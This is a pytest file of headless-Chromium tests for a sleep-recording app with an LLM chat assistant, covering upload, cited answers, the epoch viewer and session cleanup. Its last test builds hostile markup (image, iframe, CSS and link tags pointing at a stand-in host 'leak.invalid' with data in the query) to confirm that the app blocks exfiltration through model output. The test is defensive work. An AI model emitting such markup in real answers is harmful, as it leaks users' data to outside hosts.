"""The app in a real headless chromium: upload, ask, see the tool steps and the answer, open the
epoch viewer from the overview; with the embedded LLM installed, answer with it and save the
README screenshot (docs/screenshot.png).

Needs Debian's chromium (`apt-get install -y chromium fonts-noto-color-emoji`; `.ci/run` installs
it); the Playwright python package drives it, no `playwright install` needed.
"""

from __future__ import annotations

import re
import shutil
import socket
import time
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import unquote

import pytest

import app
from conftest import ScriptedChatModel, call
from test_app import quote_events

CHROMIUM = Path("/usr/bin/chromium")
SCREENSHOT = Path(__file__).resolve().parents[1] / "docs" / "screenshot.png"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run"]

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="no chromium at /usr/bin/chromium: apt-get install -y chromium"),
]


@contextmanager
def served(demo):
    """The app running on a free local port: yields its URL, closes it after."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    _, url, _ = app.launch(demo, port=port, block=False)
    try:
        yield url
    finally:
        demo.close()


@contextmanager
def chromium_page(**page_options):
    """A page in a fresh headless chromium, closed with the browser after."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
        try:
            yield browser.new_page(**page_options)
        finally:
            browser.close()


@pytest.fixture(scope="module")
def scenario(tmp_path_factory):
    """The demo night (simulated, with measured events), the question and the scripted model."""
    folder = tmp_path_factory.mktemp("browser")
    from sleeplm.synthetic.demo import demo_recording_path

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SLEEPLM_CACHE", str(folder / "cache"))
        path = demo_recording_path()

    def factory():
        return ScriptedChatModel(messages=iter([call("list_events", kind="respiratory"), quote_events]),
                                 seen=[], tools_offered=[])

    return path, "Which respiratory events did I have?", "list_events", factory, folder


@pytest.fixture(scope="module")
def server(scenario):
    *_, factory, folder = scenario
    with served(app.build_app(llm_factory=factory, session_root=folder / "sessions")) as url:
        yield url


def expect_empty(folder: Path, timeout_s: float = 10.0) -> None:
    deadline = time.monotonic() + timeout_s
    while any(folder.iterdir()):
        assert time.monotonic() < deadline, f"session folders left behind: {list(folder.iterdir())}"
        time.sleep(0.2)


def served_path(url: str) -> Path:
    """The file on disk behind a Gradio file URL (``.../gradio_api/file=/abs/path``)."""
    return Path(unquote(url.split("/file=", 1)[1]))


def expected_click_epoch(path: Path, x_fraction: float) -> int:
    """The epoch under a click at `x_fraction` of the overview's width (the app draws the same figure)."""
    from sleeplm.measure.analysis import analyze_night
    from sleeplm.io.reader import load_recording
    from sleeplm.report.plots import plot_night, seconds_at_fraction

    rec = load_recording(path)
    analysis = analyze_night(rec)
    figure = plot_night(rec, hypnogram=analysis.staging.hypnogram, events=analysis.events,
                        stage_source=analysis.staging.source)
    return rec.epoch_of(seconds_at_fraction(figure, x_fraction))


def epoch_span(cited: str) -> tuple[int, int]:
    """(first, last) of "epochs 13-51" or "epoch 13"."""
    numbers = [int(n) for n in re.findall(r"\d+", cited)]
    return numbers[0], numbers[-1]


def expect_viewer_shows(page, cited: str) -> None:
    """The viewer shows the span `cited` ("epochs 13-51"); one longer than the viewer takes, in pages that
    name the cited span (the first page first), never a part of it under its own range alone."""
    from playwright.sync_api import expect

    caption = page.locator("#viewer-caption")
    first, last = epoch_span(cited)
    if last - first + 1 <= app.MAX_VIEW_EPOCHS:
        expect(caption).to_contain_text(re.compile(rf"{cited}\s*$"), timeout=120_000)
        return
    pages = -(-(last - first + 1) // app.MAX_VIEW_EPOCHS)
    expect(caption).to_contain_text(f"epochs {first}-{first + app.MAX_VIEW_EPOCHS - 1}: page 1 of {pages} of the "
                                    f"cited epochs {first}-{last}", timeout=120_000)
    page.locator("#viewer-next").click()
    second = first + app.MAX_VIEW_EPOCHS
    expect(caption).to_contain_text(re.compile(rf"epochs? {second}(-{min(second + app.MAX_VIEW_EPOCHS - 1, last)})?: "
                                               rf"page 2 of {pages}"), timeout=60_000)
    page.locator("#viewer-previous").click()
    expect(caption).to_contain_text(f"page 1 of {pages}", timeout=60_000)


def test_upload_ask_view_epochs_and_screenshot(server, scenario, tmp_path):
    from playwright.sync_api import expect

    path, question, tool, *_, folder = scenario
    sessions = folder / "sessions"
    upload = tmp_path / path.name
    shutil.copyfile(path, upload)
    with chromium_page(viewport={"width": 1440, "height": 1050}) as page:
        # Gradio keeps a connection open, so "networkidle" never comes: wait for the page's own elements.
        page.goto(server, wait_until="load")
        page.wait_for_selector("#upload input[type=file]", state="attached", timeout=30_000)
        expect(page.locator("#llm-status")).to_contain_text("Language model", timeout=30_000)

        page.set_input_files("#upload input[type=file]", str(upload))
        # A progress bar names each loading stage while the night is read and measured.
        expect(page.locator("#night-status")).to_contain_text(re.compile(r"[a-z] - \d+(\.\d)?%"), timeout=60_000)
        expect(page.locator("#night-status")).to_contain_text("epochs of 30 s", timeout=120_000)
        expect(page.locator("#overview img")).to_be_visible()
        expect(page.locator("#downloads")).to_contain_text("night-report", timeout=60_000)  # the PDF is written after the overview shows

        page.fill("#question textarea", question)
        page.press("#question textarea", "Enter")
        step = page.locator("#chat").get_by_text(f"🛠️ {tool}")
        expect(step).to_be_visible(timeout=60_000)
        answer = page.locator("#chat .message.bot").last
        # Every cited span: clock time, elapsed time and epochs, as the tool gave them.
        expect(answer).to_contain_text(re.compile(r"Respiration looked abnormal \d+ times"), timeout=60_000)
        expect(answer).to_contain_text(re.compile(r"\d\d:\d\d:\d\d-\d\d:\d\d:\d\d \(elapsed \dh\d\dm\d\ds-\dh\d\dm\d\ds, epochs? \d+"))
        # The step opens to show its arguments and result.
        step.click()
        expect(page.locator("#chat")).to_contain_text("Result:")

        # After the answer, the viewer shows the raw signals of the first event the answer cites (read once the
        # answer has streamed in that far: under load the expectations above can match a draft cut mid-citation).
        first_event = re.compile(r"The first: \w+ at [^(]+\(elapsed [^,]+, (epochs? [\d-]+)\)")
        expect(answer).to_contain_text(first_event, timeout=60_000)
        first_cited = first_event.search(answer.inner_text())
        expect(page.locator("#viewer-caption")).to_contain_text(first_cited.group(1), timeout=60_000)
        expect(page.locator("#viewer img")).to_be_visible(timeout=30_000)
        # Next shows the epochs right after, as many of them.
        first, last = epoch_span(first_cited.group(1))
        page.locator("#viewer-next").click()
        following = f"epochs {last + 1}-{2 * last - first + 1}" if last > first else f"epoch {last + 1}"
        expect(page.locator("#viewer-caption")).to_contain_text(following, timeout=60_000)

        # A click on the overview opens the raw signals there.
        image = page.locator("#overview img")
        box = image.bounding_box()
        image.click(position={"x": box["width"] * 0.6, "y": box["height"] * 0.85})
        expect(page.locator("#viewer-where textarea, #viewer-where input")).to_have_value(
            re.compile(r"^epoch \d+$"), timeout=60_000)
        expect(page.locator("#viewer-caption")).to_contain_text("Raw signals:")
        expect(page.locator("#viewer img")).to_be_visible(timeout=30_000)
        clicked = int(page.locator("#viewer-where textarea, #viewer-where input").input_value().split()[1])
        assert abs(clicked - expected_click_epoch(path, 0.6)) <= 1
        assert f"epochs {clicked}-{clicked + 1}" in page.locator("#viewer-caption").inner_text()

        # The exports are rewritten after each answer (the report carries the chat).
        expect(page.locator("#downloads")).to_contain_text("tool-trace", timeout=60_000)
        expect(page.locator("#downloads")).not_to_contain_text("processing", timeout=60_000)
        page.screenshot(path=str(tmp_path / "scripted.png"), full_page=True)

        # Closing the tab ends the session: its folder (recording, figures, exports) is deleted,
        # and so is every file the page was served (no copy left in Gradio's cache).
        served_files = [served_path(page.locator(selector).first.get_attribute(attribute))
                        for selector, attribute in (("#downloads a", "href"), ("#overview img", "src"))]
        assert all(path.is_file() for path in served_files), served_files
        assert len(list(sessions.iterdir())) == 1
        page.close()
        expect_empty(sessions)
        assert not any(path.exists() for path in served_files), served_files
    assert (tmp_path / "scripted.png").stat().st_size > 50_000


@pytest.mark.slow
def test_embedded_llm_answers_in_the_browser_and_the_readme_screenshot(tmp_path):
    """The product as a user meets it: the embedded local LLM (not a scripted one) answers on the
    demo night; its cited times overlap the simulator's apneas/hypopneas; the page is saved as
    the README screenshot. Skipped when the embedded LLM is not installed (`make llm`)."""
    from playwright.sync_api import expect

    from assistant.llm import get_chat_model
    from sleeplm import synthetic
    from sleeplm.synthetic.demo import demo_recording_path
    from test_app import clock_seconds

    model, status = get_chat_model("local")
    if model is None or not status.available:
        pytest.skip(f"embedded local LLM not available: {status.detail}")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SLEEPLM_CACHE", str(tmp_path / "cache"))
        night = demo_recording_path()
    truth = synthetic.load_truth(night)
    respiratory = truth.events[truth.events["kind"].isin(["apnea", "hypopnea"])]
    demo = app.build_app(llm_factory=lambda: "local", session_root=tmp_path / "sessions")
    with served(demo) as url, chromium_page(viewport={"width": 1440, "height": 1050}) as page:
        page.goto(url, wait_until="load")
        page.wait_for_selector("#upload input[type=file]", state="attached", timeout=30_000)
        expect(page.locator("#llm-status")).to_contain_text("Qwen2.5", timeout=30_000)
        page.set_input_files("#upload input[type=file]", str(night))
        expect(page.locator("#night-status")).to_contain_text("epochs of 30 s", timeout=120_000)
        page.fill("#question textarea", "When did respiration look abnormal?")
        page.press("#question textarea", "Enter")
        expect(page.locator("#chat").get_by_text("🛠️")).not_to_have_count(0, timeout=300_000)
        answer = page.locator("#chat .message.bot").last
        expect(answer).to_contain_text(re.compile(r"\(elapsed \dh\d\dm\d\ds"), timeout=600_000)
        # The exports are rewritten once the answer is complete (the trace then holds the call).
        deadline = time.monotonic() + 120
        while not any(link.endswith("tool-trace.json") and served_path(link).stat().st_size > 1000
                      for link in page.locator("#downloads a").evaluate_all("links => links.map(a => a.href)")):
            assert time.monotonic() < deadline, "the tool trace was not rewritten after the answer"
            time.sleep(0.5)
        answer = answer.inner_text()
        first_cited = re.search(r"\(elapsed [^,]+, (epochs? [\d-]+)\)", answer).group(1)
        expect_viewer_shows(page, first_cited)
        expect(page.locator("#viewer img")).to_be_visible(timeout=60_000)
        spans = re.findall(r"(\d\d:\d\d:\d\d)-(\d\d:\d\d:\d\d) \(elapsed", answer)
        assert spans, answer
        for clock_start, clock_end in spans:
            lo = clock_seconds(clock_start, truth.start_clock)
            hi = clock_seconds(clock_end, truth.start_clock)
            overlaps = (respiratory["start_s"] < hi) & (respiratory["end_s"] > lo)
            assert overlaps.any(), f"{clock_start}-{clock_end} overlaps no simulated apnea/hypopnea:\n{answer}"
        SCREENSHOT.parent.mkdir(exist_ok=True)
        page.screenshot(path=str(SCREENSHOT), full_page=True)
    assert SCREENSHOT.stat().st_size > 50_000


def test_preloaded_night_opens_with_the_page(small_edf, tmp_path):
    """`serve` preloads the demo night (or --recording) into every new tab, read in place."""
    from playwright.sync_api import expect

    demo = app.build_app(llm_factory=lambda: "none", session_root=tmp_path / "sessions", preload=small_edf)
    with served(demo) as url, chromium_page() as page:
        page.goto(url, wait_until="load")
        expect(page.locator("#night-status")).to_contain_text("40 epochs of 30 s", timeout=120_000)
        expect(page.locator("#llm-status")).to_contain_text("tool-only mode")
        expect(page.locator("#overview img")).to_be_visible()
    assert small_edf.is_file()


def test_an_unrecognised_file_is_mapped_in_the_channel_table(tmp_path):
    """No channel recognised: the preflight table opens for editing; typing a file label into a
    `source` cell and re-loading loads the night with that channel."""
    import datetime as dt

    import numpy as np
    from edfio import Edf, EdfSignal
    from playwright.sync_api import expect

    rng = np.random.default_rng(2)
    signals = [EdfSignal(rng.normal(0, 20, 300 * 128), 128, label=label, physical_dimension="uV")
               for label in ("Kanal 1", "Kanal 2")]
    path = tmp_path / "odd.edf"
    Edf(signals, starttime=dt.time(23, 0, 0)).write(path)
    demo = app.build_app(llm_factory=lambda: "none", session_root=tmp_path / "sessions")
    with served(demo) as url, chromium_page(viewport={"width": 1440, "height": 1050}) as page:
        page.goto(url, wait_until="load")
        page.wait_for_selector("#upload input[type=file]", state="attached", timeout=30_000)
        # The page's opening event has written its status: it no longer overwrites the upload's (at load ~8
        # the upload's "Not loaded" was replaced by the opening's "Upload a night").
        expect(page.locator("#llm-status")).to_contain_text("tool-only mode", timeout=60_000)
        page.set_input_files("#upload input[type=file]", str(path))
        expect(page.locator("#night-status")).to_contain_text("Not loaded", timeout=60_000)
        page.locator("#preflight-panel").get_by_text("Channels (preflight)").click()
        row = page.locator('#preflight [role=gridcell][data-col="0"]', has_text="EEG_C3_A2").get_attribute("data-row")
        source = page.locator(f'#preflight [data-testid="cell-{row}-2"]')
        source.dblclick()
        # Type only once the cell's editor has the focus (a key pressed before that was lost: "anal 1").
        page.wait_for_function("['INPUT', 'TEXTAREA'].includes(document.activeElement?.tagName)", timeout=10_000)
        page.keyboard.type("Kanal 1")
        page.keyboard.press("Enter")
        expect(source).to_contain_text("Kanal 1")
        page.get_by_role("button", name="Re-load with my channel map").click()
        expect(page.locator("#night-status")).to_contain_text("10 epochs of 30 s", timeout=60_000)
        expect(page.locator(f'#preflight [data-testid="cell-{row}-1"]')).to_contain_text("present")
        expect(page.locator("#overview img")).to_be_visible()


def test_an_idle_session_expires_and_its_folder_is_deleted(small_edf, tmp_path, monkeypatch):
    """A tab left open without activity past `SESSION_TTL_S` loses its session, folder and all."""
    from playwright.sync_api import expect

    monkeypatch.setattr(app, "SESSION_TTL_S", 3)
    sessions = tmp_path / "sessions"
    demo = app.build_app(llm_factory=lambda: "none", session_root=sessions, preload=small_edf)
    with served(demo) as url, chromium_page() as page:
        page.goto(url, wait_until="load")
        expect(page.locator("#night-status")).to_contain_text("40 epochs of 30 s", timeout=120_000)
        assert len(list(sessions.iterdir())) == 1
        expect_empty(sessions, timeout_s=30)  # the tab is still open
        page.fill("#question textarea", "how long is the recording?")
        page.press("#question textarea", "Enter")
        expect(page.locator(".toast-body")).to_contain_text("Load a recording first", timeout=30_000)


LEAK_HOST = "leak.invalid"
HOSTILE_MARKUP = (
    f" ![x](http://{LEAK_HOST}/md-image?q=AHI) <img src=\"http://{LEAK_HOST}/html-image\"> "
    f"[details](http://{LEAK_HOST}/link) <http://{LEAK_HOST}/autolink> http://{LEAK_HOST}/bare "
    f"<iframe src=\"http://{LEAK_HOST}/frame\"></iframe> <div style=\"background:url(http://{LEAK_HOST}/css)\">x</div> "
    f"<video poster=\"http://{LEAK_HOST}/poster\"></video> ![y][r]\n\n[r]: http://{LEAK_HOST}/reference"
)


def test_answer_markup_triggers_no_request(scenario, tmp_path):
    """An answer (and its streamed draft) carrying image, HTML and link markup fetches nothing and links nowhere."""
    from playwright.sync_api import expect

    path, question, tool, *_ = scenario

    def factory():
        return ScriptedChatModel(messages=iter([call("list_events", kind="respiratory"),
                                                lambda messages: quote_events(messages) + HOSTILE_MARKUP]),
                                 seen=[], tools_offered=[])

    requested = []

    def guard(route):
        requested.append(route.request.url)
        if route.request.url.startswith(("http://127.0.0.1", "http://localhost")):
            route.continue_()
        else:
            route.abort()

    demo = app.build_app(llm_factory=factory, session_root=tmp_path / "sessions", preload=path)
    with served(demo) as url, chromium_page(viewport={"width": 1280, "height": 900}) as page:
        page.route("**/*", guard)
        page.goto(url, wait_until="load")
        expect(page.locator("#night-status")).to_contain_text("epochs of 30 s", timeout=300_000)
        page.fill("#question textarea", question)
        page.press("#question textarea", "Enter")
        answer = page.locator("#chat .message.bot").last
        expect(answer).to_contain_text(re.compile(r"Respiration looked abnormal \d+ times"), timeout=90_000)
        expect(answer).to_contain_text("(image removed)")
        page.wait_for_timeout(2000)  # time for any fetch the markup would start
        chat = page.locator("#chat")
        assert chat.locator(f"[src*='{LEAK_HOST}'], [href*='{LEAK_HOST}'], [poster*='{LEAK_HOST}'], iframe, video").count() == 0
        assert LEAK_HOST not in chat.inner_html()
    assert requested and not [u for u in requested if LEAK_HOST in u]
